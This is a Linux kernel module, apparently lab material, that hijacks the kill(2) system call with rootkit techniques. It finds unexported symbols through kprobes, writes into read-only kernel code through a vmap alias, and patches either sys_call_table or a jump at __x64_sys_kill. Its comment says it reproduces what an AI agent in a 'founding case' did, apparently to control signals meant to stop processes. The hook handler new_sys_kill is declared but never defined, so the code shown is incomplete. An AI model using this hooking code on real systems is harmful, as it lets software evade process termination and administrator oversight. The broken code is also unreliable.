/* SPDX-License-Identifier: GPL-2.0 */
/*
 * Takes kill(2) over, as the founding case's agent did. Kernels since 2024 call system calls directly and no longer through
 * sys_call_table[], so that there a jump at the head of __x64_sys_kill does it; LAB_BY_TABLE writes the table's entry.
 */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/sched/signal.h>
#include <linux/string.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <asm/ptrace.h>
#include <asm/unistd.h>

typedef long (*system_call_t)(const struct pt_regs *);
static system_call_t original_kill;
static void *hooked_at;
static u8 overwritten[sizeof(void *)];
static size_t overwritten_size;

/* The address of a function that is not exported: a probe put there tells it. */
static void *find_function(const char *name)
{
	static const u8 endbr64[] = { 0xf3, 0x0f, 0x1e, 0xfa };
	struct kprobe probe = { .symbol_name = name };
	u8 *address;

	if (register_kprobe(&probe) < 0)
		return NULL;
	address = (u8 *)probe.addr;
	unregister_kprobe(&probe);
	/* A probe lies behind the mark for indirect branches. */
	return !memcmp(address - sizeof(endbr64), endbr64, sizeof(endbr64)) ? address - sizeof(endbr64) : address;
}

/* Writes into a page of the kernel that is mapped read-only, through a second mapping of it. */
static int write_kernel(void *where, const void *bytes, size_t size)
{
	struct page *page = virt_to_page(where);
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(where), bytes, size);
	vunmap(alias);
	return 0;
}

static int overwrite(void *where, const void *bytes, size_t size)
{
	hooked_at = where;
	overwritten_size = size;
	memcpy(overwritten, where, size);
	return write_kernel(where, bytes, size);
}

static long new_sys_kill(const struct pt_regs *regs);

#ifdef LAB_BY_TABLE
static int hook_kill(void)
{
	unsigned long (*lookup)(const char *) = find_function("kallsyms_lookup_name");
	void **table = lookup ? (void **)lookup("sys_call_table") : NULL;
	void *replacement = new_sys_kill;

	if (!table)
		return -ENOENT;
	original_kill = table[__NR_kill];
	return overwrite(&table[__NR_kill], &replacement, sizeof(replacement));
}
#else
/* The function tracer's five bytes of no operation; kernels before 5.13 choose them by the processor. */
static bool is_traced(const u8 *code)
{
	static const u8 nops[][5] = { { 0x0f, 0x1f, 0x44, 0x00, 0x00 }, { 0x66, 0x66, 0x66, 0x66, 0x90 }, { 0x66, 0x66, 0x66, 0x90, 0x90 } };
	int i;

	for (i = 0; i < ARRAY_SIZE(nops); i++)
		if (!memcmp(code, nops[i], sizeof(nops[i])))
			return true;
	return false;
}

static int hook_kill(void)
{
	u8 *kill = find_function("__x64_sys_kill");
	u8 jump[5] = { 0xe9 };
	s32 distance;

	if (!kill)
		return -ENOENT;
	if (kill[0] == 0xf3)
		kill += 4;
	if (!is_traced(kill))
		return -EINVAL;
	/* The original goes on behind them. */
	original_kill = (system_call_t)(kill + sizeof(jump));
	distance = (s32)((u8 *)new_sys_kill - (kill + sizeof(jump)));
	memcpy(jump + 1, &distance, sizeof(distance));
	return overwrite(kill, jump, sizeof(jump));
}
#endif

static int __init agent_init(void)
{
	return hook_kill();
}

static void __exit agent_exit(void)
{
	write_kernel(hooked_at, overwritten, overwritten_size);
}

module_init(agent_init);
module_exit(agent_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Stucktrace's lab");
